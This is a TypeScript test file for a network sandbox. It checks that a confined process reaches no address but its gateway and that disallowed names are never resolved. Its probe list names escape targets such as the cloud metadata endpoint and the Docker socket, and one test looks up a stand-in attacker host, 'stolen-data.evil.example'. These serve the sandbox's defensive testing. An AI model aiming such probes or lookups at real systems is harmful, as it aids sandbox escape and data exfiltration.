import { once } from 'node:events';
import dgram from 'node:dgram';
import net, { type AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { expect, test } from 'vitest';
import { onHost } from './support/on-host.ts';
import { runDecoy } from './support/run-decoy.ts';
import { startUpstream } from './support/upstream.ts';
import { openWorkspace, probes } from './support/workspace.ts';

// I4
type Attempt = { target: string; reached: boolean; why: string | null; seconds: number };

test('no address but the gateway\'s is reachable, whatever the protocol, and every attempt fails at once', async () => {
  await using workspace = await openWorkspace();
  await using host = await startHostServices();
  const addresses = Object.values(os.networkInterfaces()).flatMap((list) => list ?? []).filter(({ scopeid }) => !scopeid).map(({ address }) => address);
  const outward = addresses.find((address) => net.isIPv4(address) && !address.startsWith('127.')) ?? '127.0.0.1';
  await using upstream = await startUpstream((_, response) => void response.end('allowed'), { address: outward });
  const own = [
    ...addresses.flatMap((address) => [`tcp,${address},${host.port}`, `udp,${address},${host.port}`]),
    `tcp,127.0.0.1,${host.loopbackPort}`, `tcp,::1,${host.port}`, `tcp,${outward},${upstream.port}`, 'unix,/var/run/docker.sock,',
  ];
  const elsewhere = [
    'tcp,169.254.169.254,80', 'tcp,168.63.129.16,80', 'tcp,8.8.8.8,53', 'udp,8.8.8.8,53', 'tcp,1.1.1.1,443', 'tcp,2001:4860:4860::8888,53', 'udp,2606:4700:4700::1111,53',
    'tcp,fe80::1,80', 'tcp,172.17.0.1,22', 'tcp,10.0.0.1,443', 'tcp,224.0.0.1,80', 'tcp,255.255.255.255,80', 'tcp,198.18.250.250,443', 'unix,/run/decoy/proxy.sock,', 'unix,/run/decoy/control.sock,',
  ];
  const targets = [...new Set([...own, ...elsewhere])];
  const end = await runDecoy([
    '--quiet', '--allow', 'allowed.example.test', '--resolve', `allowed.example.test:443:${outward}:${upstream.port}`, '--',
    'sh', '-c', 'python3 probes/connect.py "$@"; echo "BY NAME $(curl -sS -m 5 https://allowed.example.test/)"', 'sh', ...targets,
  ], { cwd: workspace.path, env: upstream.env });
  expect(end, end.stderr).toMatchObject({ exitCode: 0 });
  const attempts = parse(end.stdout);
  expect(attempts.map(({ target }) => target)).toEqual(targets);
  // UDP has no connection to refuse: a datagram to one of the gateway's own addresses is dropped, so waiting for an answer takes its time.
  const waited = (attempt: Attempt) => attempt.seconds >= 1.5 && !/^udp,(127|198\.1[89])\./.test(attempt.target);
  expect(attempts.filter((attempt) => attempt.reached || waited(attempt))).toEqual([]);
  // The host of the raw address that failed is allowed by name.
  expect(end.stdout).toContain('BY NAME allowed');

  // The same probe on the host reaches what is there to be reached.
  const control = parse((await onHost(['/usr/bin/python3', path.join(probes, 'connect.py'), ...own])).stdout);
  const reached = control.filter((attempt) => attempt.reached).map(({ target }) => target);
  expect(reached).toEqual(expect.arrayContaining([`tcp,127.0.0.1,${host.loopbackPort}`, `tcp,${outward},${host.port}`, `udp,${outward},${host.port}`, 'unix,/var/run/docker.sock,']));
  expect(host.contacts()).toBeGreaterThan(0);
}, 60_000);

test('a name that is not allowed is not looked up, so nothing can be told by asking', async () => {
  await using workspace = await openWorkspace();
  const end = await runDecoy([
    '--quiet', '--allow', 'allowed.example.test', '--',
    'sh', '-c', 'getent hosts stolen-data.evil.example && echo RESOLVED; getent hosts allowed.example.test && echo ALLOWED; exit 0',
  ], { cwd: workspace.path });
  expect(end.stdout).not.toContain('RESOLVED');
  expect(end.stdout).toContain('ALLOWED');
  expect(end.report!.blocked).toMatchObject([{ host: 'stolen-data.evil.example', reason: 'name-not-allowed' }]);
}, 60_000);

function parse(text: string): Attempt[] {
  return text.split('\n').filter((line) => line.startsWith('{')).map((line) => JSON.parse(line) as Attempt);
}

/** TCP and UDP on every address, and TCP on the loopback address alone, as a database or a debugger of the runner. */
async function startHostServices() {
  let contacts = 0;
  const answer = (socket: net.Socket) => {
    contacts += 1;
    socket.on('error', () => {});
    socket.end('hello');
  };
  const everywhere = net.createServer(answer);
  await once(everywhere.listen(0, '::'), 'listening');
  const { port } = everywhere.address() as AddressInfo;
  const loopback = net.createServer(answer);
  await once(loopback.listen(0, '127.0.0.1'), 'listening');
  const datagrams = dgram.createSocket('udp6');
  datagrams.on('message', (_, peer) => {
    contacts += 1;
    datagrams.send('hello', peer.port, peer.address);
  });
  datagrams.bind(port, '::');
  await once(datagrams, 'listening');
  return {
    port, loopbackPort: (loopback.address() as AddressInfo).port, contacts: () => contacts,
    async [Symbol.asyncDispose]() {
      datagrams.close();
      await Promise.all([everywhere, loopback].map((server) => new Promise((closed) => server.close(closed))));
    },
  };
}
